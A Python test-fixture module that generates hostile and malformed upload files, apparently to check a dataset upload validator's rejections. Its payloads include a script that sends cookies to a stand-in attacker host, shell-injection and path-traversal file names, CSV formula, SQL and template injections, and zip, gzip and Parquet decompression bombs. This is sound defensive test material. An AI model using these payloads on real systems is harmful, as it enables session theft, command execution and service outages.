"""Hostile and broken files, made here: name, bytes, and what is said of it (or that it reads fine).

Large ones are made when they are asked for. No file of this corpus comes from anywhere else.
"""

import gzip
import io
import json
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq

READS = ("reads fine",)
GOOD = "text,label\nA cat naps.,good\nA dog barks.,bad\nA bird sings.,good\nA fish.,bad\n"
GOOD_TSV = GOOD.replace(",", "\t")
MIB = 1024**2
_LONG = ("at most 10,000,000 are allowed",)
SCRIPT = "<script>fetch('http://evil.example/'+document.cookie)</script>"
PICTURE = "![x](http://evil.example/x.png) [click](javascript:alert(1))"


@dataclass(frozen=True)
class Case:
    """A file of the corpus.

    Attributes:
        what: Short name, unlike the others'.
        name: As the browser sends it.
        make: Makes its bytes.
        told: Parts of the sentence that refuses it, or `READS`.
        bomb: Whether it is small and would unpack, or be built up, to far more.
    """

    what: str
    name: str
    make: Callable[[], bytes]
    told: tuple[str, ...]
    bomb: bool = False

    @property
    def reads(self) -> bool:
        """Whether it is fine, if odd."""
        return self.told == READS


def corpus() -> list[Case]:
    """All files."""
    return [*_texts(), *_encodings(), *_names(), *_markup(), *_jsonl(), *_parquet(), *_bombs()]


def _case(what: str, name: str, content: bytes | str, *told: str, bomb: bool = False) -> Case:
    plain = content.encode() if isinstance(content, str) else content
    return Case(what, name, lambda: plain, told or READS, bomb)


def _texts() -> Iterator[Case]:
    """Tables that are ragged, empty, or quoted in odd ways."""
    yield _case("empty file", "a.csv", b"", "is empty")
    yield _case("blank lines only", "a.csv", "\n\n\r\n", "no header")
    yield _case("header only", "a.csv", "text,label\n", "no rows")
    yield _case("one blank", "a.tsv", " ", "no rows")
    yield _case("long row", "a.csv", f"{GOOD}a,b,c\n", "line 6", "3 fields")
    yield _case("short row", "a.csv", f"{GOOD}only\n", "line 6", "1 fields")
    yield _case("ragged TSV", "a.tsv", f"{GOOD_TSV}a\tb\tc\n", "line 6", "3 fields")
    yield _case("open quote", "a.csv", f'{GOOD}"never closed,x\n', "not closed")
    yield _case("text after a quote", "a.csv", f'{GOOD}"a"b,x\n', "line 6")
    yield _case("quote in a TSV cell", "a.tsv", f'{GOOD_TSV}say "no\tgood\n')
    yield _case("line end in a cell", "a.csv", f'{GOOD}"two\nlines",good\n')
    yield _case("carriage returns", "a.csv", GOOD.replace("\n", "\r"))
    yield _case("both line ends", "a.csv", GOOD.replace("\n", "\r\n", 2))
    yield _case("semicolons", "a.csv", GOOD.replace(",", ";"))
    yield _case("no line end at the end", "a.csv", GOOD.rstrip("\n"))
    yield _case("empty cells", "a.csv", f"{GOOD},\n , \n")
    yield _case("blank lines between", "a.csv", GOOD.replace("\n", "\n\n"))
    yield _case(
        "twice a column", "a.csv", "text,label,text\na,b,c\n", "more than one column 'text'"
    )
    yield _case("twice after blanks", "a.csv", "text, text \na,b\n", "more than one column")
    yield _case("unnamed columns", "a.csv", ",,\na,b,c\n")
    yield _case("numbers for names", "a.csv", "1,2\na,b\nc,d\n")
    yield _case(
        "very long name", "a.csv", f"{'n' * 5000},label\na,b\n", "5,000 characters", "header"
    )
    yield _case("name that is a path", "a.csv", "../../etc/passwd,label\na,b\nc,d\n")
    yield _case("controls in a name", "a.csv", "te\x1bxt\x07,label\na,b\n")
    yield _case("controls in cells", "a.csv", "text,label\n\x1b[31mred\x08,x\nb,y\n")
    yield _case(
        "formula cells", "a.csv", "text,label\n=cmd|'/C calc'!A0,+1\n@SUM(A1),-1\n\tTab,x\n"
    )
    yield _case("formula for a name", "a.csv", "=1+1,@label\na,b\nc,d\n")
    yield _case("numbers of any length", "a.csv", f"text,label\na,{'9' * 5000}\nb,1e999\nc,nan\n")
    yield _case("bidi and joiners", "a.csv", "text,label\n\u202egnp.exe\u2066,a\u200d\nb,b\n")
    yield _case("marks on one letter", "a.csv", f"text,label\na{chr(0x301) * 9000},x\nb,y\n")


def _encodings() -> Iterator[Case]:
    """Text that is not UTF-8, and files that are not text."""
    yield _case("byte order mark", "a.csv", GOOD.encode("utf-8-sig"))
    yield _case("two byte order marks", "a.csv", b"\xef\xbb\xbf" + GOOD.encode("utf-8-sig"))
    yield _case("UTF-16 with a mark", "a.csv", GOOD.encode("utf-16"))
    yield _case("UTF-16 without", "a.csv", GOOD.encode("utf-16-le"))
    yield _case("UTF-16 the other way", "a.csv", GOOD.encode("utf-16-be"))
    yield _case("UTF-16 that is cut", "a.csv", GOOD.encode("utf-16")[:-1], "is not UTF-16")
    yield _case(
        "half a pair in UTF-16", "a.csv", GOOD.encode("utf-16") + b"\0\xd8a\0", "not UTF-16"
    )
    yield _case("UTF-32", "a.csv", GOOD.encode("utf-32"))
    yield _case("Latin-1", "a.csv", f"{GOOD}café,good\n".encode("latin-1"))
    yield _case("Shift JIS", "a.tsv", "text\tlabel\n日本です\tx\nねこ\ty\n".encode("shift-jis"))
    yield _case(
        "one byte amid UTF-8", "a.csv", f"{GOOD}café €,x\n".encode() + b"\xff,y\n", "line 7"
    )
    yield _case("a surrogate in UTF-8", "a.csv", b"text,label\n\xed\xa0\x80,x\n", "not UTF-8")
    yield _case("overlong slash", "a.csv", b"text,label\n\xc0\xaf,x\n", "not UTF-8")
    yield _case("cut in a character", "a.csv", GOOD.encode() + b"\xf0\x9f", "not UTF-8")
    yield _case("NUL bytes", "a.csv", "text,label\na\0b,x\n", "binary data")
    yield _case("NULs in JSONL", "a.jsonl", b'{"text": "a\0"}\n', "binary data")
    yield _case("random bytes", "a.tsv", np.random.default_rng(0).bytes(4096), "binary data")
    yield _case("a program", "a.csv", b"\x7fELF\x02\x01\x01\0rest", "binary data")
    yield _case("a picture", "a.csv", b"\x89PNG\r\n\x1a\nrest", "a picture")
    yield _case("a picture without its mark", "a.csv", bytes(range(1, 256)) * 8, "binary data")
    yield _case("a PDF", "a.csv", b"%PDF-1.7\nstream", "a PDF")
    yield _case("an old Excel", "a.csv", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1rest", "old Excel")
    yield _case("a pickle", "a.csv", b"\x80\x04\x95\x01\0\0\0N.", "binary data")
    yield _case("gzip as CSV", "a.csv", b"\x1f\x8b\x08rest", "damaged gzip archive")
    yield _case("gzip that is cut", "a.csv.gz", gzip.compress(GOOD.encode())[:-9], "damaged gzip")
    yield _case("gzip of a CSV", "a.csv.gz", gzip.compress(GOOD.encode()))
    yield _case("two in one gzip", "a.gz", gzip.compress(GOOD.encode()) + gzip.compress(b"a,b\n"))
    yield _case(
        "gzip of a gzip", "a.gz", gzip.compress(gzip.compress(GOOD.encode())), "gzip archive"
    )
    yield _case("gzip of nothing", "a.gz", gzip.compress(b""), "is empty")
    yield _case("gzip of a program", "a.gz", gzip.compress(b"\x7fELF\x02\0"), "a program")
    yield _case("zip as CSV", "a.csv", _zipped(GOOD.encode()), "Excel workbook")
    yield _case("zip as Parquet", "a.parquet", _zipped(GOOD.encode()), "Excel workbook")
    yield _case("Parquet as CSV", "a.csv", _table(text=["a"]))
    yield _case("CSV as Parquet", "a.parquet", GOOD)
    yield _case("CSV as JSONL", "a.jsonl", GOOD)
    yield _case("a page of HTML", "a.jsonl", f"<!DOCTYPE html>{SCRIPT}", "a web page")
    pointer = "version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 9\n"
    yield _case("git-lfs pointer", "a.csv", pointer, "git-lfs pointer")


def _names() -> Iterator[Case]:
    """Names that lead elsewhere, are no file's, or are too long for one."""
    yield _case("path up", "../../../etc/cron.d/evil.csv", GOOD)
    yield _case("absolute path", "/etc/passwd.csv", GOOD)
    yield _case("Windows path", "C:\\Windows\\System32\\evil.csv", GOOD)
    yield _case("device name", "CON.csv", GOOD)
    yield _case("hidden name", ".csv.csv", GOOD)
    yield _case("only dots", "....csv", GOOD)
    yield _case("option", "--help.csv", GOOD)
    yield _case("shell", "$(touch evil);`id`|&.csv", GOOD)
    yield _case("markup", f"{SCRIPT}{PICTURE}.csv", GOOD)
    yield _case("NUL in the name", "a\0.csv", GOOD)
    yield _case("line ends in the name", "a\r\nSet-Cookie: x.csv", GOOD)
    yield _case("half a character", "\ud800.csv", GOOD)
    yield _case("long name", f"{'n' * 5000}.csv", GOOD)
    yield _case("long name of wide characters", f"{chr(0x1F600)}{chr(0x20000) * 300}.csv", GOOD)
    yield _case("percent-encoded", "..%2f..%2fevil.csv", GOOD)
    yield _case("upper-case ending", "A.CSV", GOOD)
    yield _case("no ending", "noend", GOOD)
    yield _case("two endings", "a.csv.exe", GOOD)
    yield _case("long ending", f"a.{'x' * 5000}", GOOD)
    yield _case("empty name", "", GOOD)
    yield _case("Excel", "a.xlsx", _zipped(b"x"), "Excel workbook")
    yield _case("start of a gzip", "a.csv.gz", b"\x1f\x8b", "damaged gzip archive")


def _markup() -> Iterator[Case]:
    """Cells, labels and names that a careless page would render or load."""
    rows = [(SCRIPT, "good"), (PICTURE, "bad"), (f"{SCRIPT}2", "good"), (f"{PICTURE}2", "bad")]
    yield _case("script in texts", "a.jsonl", _lines(*({"text": t, "label": n} for t, n in rows)))
    labels = [{"text": f"text {i}", "label": (SCRIPT, PICTURE)[i % 2]} for i in range(8)]
    yield _case("script in labels", "a.jsonl", _lines(*labels))
    named = [{SCRIPT: f"text {i}", PICTURE: "ab"[i % 2]} for i in range(8)]
    yield _case("script in names", "a.jsonl", _lines(*named))
    yield _case(
        "Markdown and LaTeX", "a.csv", "text,label\n$\\href{x}{y}$ :red[a] # b,*x*\nc,`y`\n"
    )
    yield _case("a template", "a.csv", "text,label\n{{7*7}} ${7*7} %(x)s {0.__class__},x\nb,y\n")
    yield _case("SQL", "a.csv", "text,label\n'; DROP TABLE runs;--,x\nb,y\n")


def _jsonl() -> Iterator[Case]:
    """Lines that are no object, odd values, and mixed types."""
    yield _case("a list", "a.jsonl", '[{"text": "a"}]')
    yield _case("a list of lists", "a.jsonl", '[["a"]]', "line 1", "a list and not an object")
    yield _case("a list that ends early", "a.json", '[{"text": "a"}, {"text": "b"', "ends within")
    yield _case("a list of this and that", "a.json", '[{"text": "a"}, "b"]', "row 2", "no object")
    yield _case("two lists", "a.json", '[{"a": "b"}]\n[{"a": "c"}]', "row 2", "in a second list")
    named = '{"train": [{"a": "b"}], "test": [{"a": "c"}]}'
    yield _case("two named lists", "a.json", named, "row 2", "in a second list")
    yield _case("words between objects", "a.json", '[{"a": "b"} and {"a": "c"}]', "row 2")
    yield _case(
        "objects over lines", "a.json", '{\n"text": "a}",\n"label": 1\n}\n{\n"text": "b"}\n'
    )
    yield _case("a number", "a.jsonl", '{"text": "a"}\n1\n', "line 2", "a int and not an object")
    yield _case("cut off", "a.jsonl", '{"text": "a"}\n{"text": \n', "line 2", "not valid JSON")
    yield _case("twice a key", "a.jsonl", '{"text": "a", "text": "b"}', "one of its keys twice")
    yield _case("lone surrogate", "a.jsonl", '{"text": "\\ud800"}', "surrogate")
    yield _case("surrogate for a key", "a.jsonl", '{"\\udfff": "a"}', "surrogate")
    yield _case("a pair of surrogates", "a.jsonl", '{"text": "\\ud83d\\ude00", "label": 1}')
    yield _case("written NUL", "a.jsonl", '{"text": "a\\u0000b", "label": "x"}')
    mixed = [{"text": "a", "label": 1}, {"text": 2, "label": "x"}, {"text": None, "label": True}]
    yield _case("mixed types", "a.jsonl", _lines(*mixed))
    yield _case("keys that come and go", "a.jsonl", _lines({"a": 1}, {"b": 2}, {}))
    yield _case("lists in cells", "a.jsonl", _lines({"text": [["a"]], "label": {"x": [1]}}))
    yield _case("NaN and Infinity", "a.jsonl", '{"text": "a", "label": NaN}\n{"label": -Infinity}')
    yield _case("number of 5,000 digits", "a.jsonl", f'{{"a": {"9" * 5000}}}', "not valid JSON")
    yield _case("nested 33 deep", "a.jsonl", f'{{"a": {"[" * 33}{"]" * 33}}}', "more than 32 deep")
    yield _case("nested 900 deep", "a.jsonl", f'{{"a": {"[" * 900}{"]" * 900}}}', "32 deep")
    yield _case("nested 100,000 deep", "a.jsonl", "[" * 100_000, "line 1", "not valid JSON")
    yield _case("objects 100,000 deep", "a.jsonl", '{"a":' * 100_000, "line 1", "not valid JSON")


def _parquet() -> Iterator[Case]:
    """Parquet that is damaged, or whose columns are not just texts and numbers."""
    whole = _table(text=["a cat", "a dog"] * 50, label=["x", "y"] * 50)
    yield _case("whole", "a.parquet", whole)
    yield _case("marks alone", "a.parquet", b"PAR1PAR1", "damaged Parquet")
    yield _case("cut in half", "a.parquet", whole[: len(whole) // 2], "damaged Parquet")
    yield _case("no footer", "a.parquet", whole[:-8] + bytes(8), "damaged Parquet")
    yield _case(
        "footer of 2 GB", "a.parquet", whole[:-8] + b"\xff\xff\xff\x7fPAR1", "damaged Parquet"
    )
    yield _case("garbled pages", "a.parquet", b"PAR1" + bytes(96) + whole[100:], "damaged Parquet")
    yield _case("no rows", "a.parquet", _table(text=pa.array([], "string")), "no rows")
    yield _case("no columns", "a.parquet", _written(pa.table({})), "no rows")
    twice = pa.table([pa.array(["a"]), pa.array(["b"])], names=["text", "text"])
    yield _case("twice a column in Parquet", "a.parquet", _written(twice), "more than one column")
    yield _case("bytes in cells", "a.parquet", _table(text=[b"\xff\xfe", b"a"], label=["x", "y"]))
    yield _case("lists and objects", "a.parquet", _table(text=[["a"], []], label=[{"x": 1}, None]))
    pandas = whole_with_metadata({b"pandas": b'{"index_columns": [' + b"[" * 9999})
    yield _case("hostile pandas metadata", "a.parquet", pandas)


def whole_with_metadata(metadata: dict[bytes, bytes]) -> bytes:
    """A sound file with these words in its schema."""
    table = pa.table({"text": ["a cat", "a dog"], "label": ["x", "y"]})
    return _written(table.replace_schema_metadata(metadata))


def _bombs() -> Iterator[Case]:
    """Small files that would take far more memory or time than their size tells."""
    columns = "at most 500 are allowed"
    yield Case("10^6 columns", "a.csv", lambda: b"," * 10**6 + b"\na\n", (columns,), bomb=True)
    yield Case("10^6 keys", "a.jsonl", _many_keys, (columns,), bomb=True)
    yield Case("a new key in each row", "a.jsonl", _new_keys, (columns,), bomb=True)
    yield Case("1,000 columns in Parquet", "a.parquet", _wide, (columns,), bomb=True)
    cells, inside = ("10,000,000 cells",), ("10,000,000 values in lists",)
    yield Case("cells of nothing", "a.csv", lambda: _empty_cells(b","), cells, bomb=True)
    yield Case(
        "2.1 million rows", "a.tsv", lambda: b"a\n" * 2_100_000, ("2,000,000 rows",), bomb=True
    )
    yield Case(
        "3 x 10^6 empty lists", "a.jsonl", _empty_lists, ("2,000,000 values in lists",), bomb=True
    )
    yield Case("list of 10^7 in Parquet", "a.parquet", _long_list, inside, bomb=True)
    huge = f"text,label\n{'a' * (MIB + 1)},x\n"
    yield _case("huge field", "a.csv", huge, "line 2", "field limit (1000000)", bomb=True)
    yield _case("huge value", "a.jsonl", _lines({"text": "a" * MIB}), "1,000,000 characters")
    yield Case(
        "huge line",
        "a.jsonl",
        lambda: b'{"text": "' + b"a" * 11 * MIB,
        ("at most 10,000,000",),
        bomb=True,
    )
    yield Case(
        "quote that swallows the file",
        "a.csv",
        lambda: b'text,label\n"' + b"a,b\n" * MIB,
        ("not closed",),
        bomb=True,
    )
    yield _case(
        "huge cell in Parquet",
        "a.parquet",
        _table(text=["a" * MIB, "b"]),
        "row 1",
        "1,000,000 characters",
        bomb=True,
    )
    unpacks = ("unpacks to", "1 GB are allowed")
    yield Case("200 GB in 2 KB of Parquet", "a.parquet", _repeated, unpacks, bomb=True)
    yield Case("the same within lists", "a.parquet", _repeated_in_lists, unpacks, bomb=True)
    yield Case("texts that share their start", "a.parquet", _shared_starts, unpacks, bomb=True)
    yield Case("1.2 GB of fixed bytes", "a.parquet", _fixed, unpacks, bomb=True)
    yield Case("1.3 GB of one letter as Parquet", "a.parquet", _plain_zeros, unpacks, bomb=True)
    yield Case(
        "zip bomb as Parquet",
        "a.parquet",
        lambda: _zipped(bytes(64 * MIB)),
        ("zip archive",),
        bomb=True,
    )
    yield Case(
        "zip bomb as CSV", "a.csv", lambda: _zipped(bytes(64 * MIB)), ("zip archive",), bomb=True
    )
    yield Case("gzip bomb as CSV", "a.csv", _gzip_bomb, ("unpacks to more than 200 MB",), bomb=True)
    yield Case(
        "list of 10^6 lists",
        "a.json",
        lambda: _lists(10**6),
        ("2,000,000 values in lists",),
        bomb=True,
    )
    yield Case(
        "string without end", "a.json", lambda: b'[{"a": "' + b"a" * 11 * MIB, _LONG, bomb=True
    )
    yield Case(
        "number without end", "a.json", lambda: b'[{"a": ' + b"1" * 11 * MIB, _LONG, bomb=True
    )
    yield Case("parts in each row", "a.jsonl", _new_parts, READS, bomb=True)


def _lines(*rows: dict) -> str:
    return "".join(f"{json.dumps(row)}\n" for row in rows)


def _zipped(content: bytes) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", content)
    return file.getvalue()


def _gzip_bomb() -> bytes:
    packer = zlib.compressobj(9, wbits=31)
    return packer.compress(bytes(250 * MIB)) + packer.flush()


def _lists(number: int) -> bytes:
    return b'[{"a": [' + b"[]," * number + b"[]]}," + b'{"a": [' + b"[]," * number + b"[]]}]"


def _new_parts() -> bytes:
    return _lines(*({"text": f"a {i}", "about": {f"k{i}": 0}} for i in range(2000))).encode()


def _written(table: pa.Table, **options) -> bytes:
    file = io.BytesIO()
    pq.write_table(table, file, **{"compression": "zstd", **options})
    return file.getvalue()


def _table(**columns) -> bytes:
    return _written(pa.table(columns))


def _one_value(value: pa.Array, rows: int) -> pa.DictionaryArray:
    return pa.DictionaryArray.from_arrays(pa.array(np.zeros(rows, np.int32)), value)


def _repeated() -> bytes:
    text = _one_value(pa.array(["a" * (MIB - 99_999)]), 200_000)
    return _written(pa.table({"text": text, "label": [1] * len(text)}), store_schema=False)


def _repeated_in_lists() -> bytes:
    texts = pa.ListArray.from_arrays(
        pa.array(np.arange(0, 200_001, 2, dtype=np.int32)),
        _one_value(pa.array(["a" * 500_000]), 200_000),
    )
    return _written(pa.table({"text": texts}), store_schema=False)


def _shared_starts() -> bytes:
    start = "a" * 500_000
    group = pa.table({"text": [f"{start}{i}" for i in range(60)]})
    return _in_groups(group, 40, column_encoding={"text": "DELTA_BYTE_ARRAY"})


def _fixed() -> bytes:
    value = pa.array([b"a" * 100_000], pa.binary(100_000))
    return _written(pa.table({"text": _one_value(value, 12_000)}), store_schema=False)


def _plain_zeros() -> bytes:
    return _in_groups(pa.table({"text": ["a" * 900_000] * 60}), 25)


def _in_groups(group: pa.Table, number: int, **options) -> bytes:
    """The same rows again and again, each time as a row group of its own."""
    file = io.BytesIO()
    options = {"compression": "zstd", "use_dictionary": False, **options}
    with pq.ParquetWriter(file, group.schema, **options) as writer:
        for _ in range(number):
            writer.write_table(group)
    return file.getvalue()


def _long_list() -> bytes:
    items = pa.array(np.zeros(12_000_000, np.int8))
    lists = pa.ListArray.from_arrays(pa.array([0, len(items)], "int32"), items)
    return _written(pa.table({"text": lists}))


def _wide() -> bytes:
    return _written(pa.table({f"c{i}": pa.array([1], "int8") for i in range(1000)}))


def _many_keys() -> bytes:
    return f"{{{','.join(f'{chr(34)}{i:x}{chr(34)}:0' for i in range(10**6))}}}".encode()


def _new_keys() -> bytes:
    return _lines(*({f"k{i}": 0} for i in range(2000))).encode()


def _empty_cells(separator: bytes) -> bytes:
    names = b",".join(b"c%d" % i for i in range(500))
    return names + b"\n" + (separator * 499 + b"\n") * 20_500


def _empty_lists() -> bytes:
    row = b'{"a":[' + b"[]," * 999_999 + b"[]]}\n"
    return row * 3
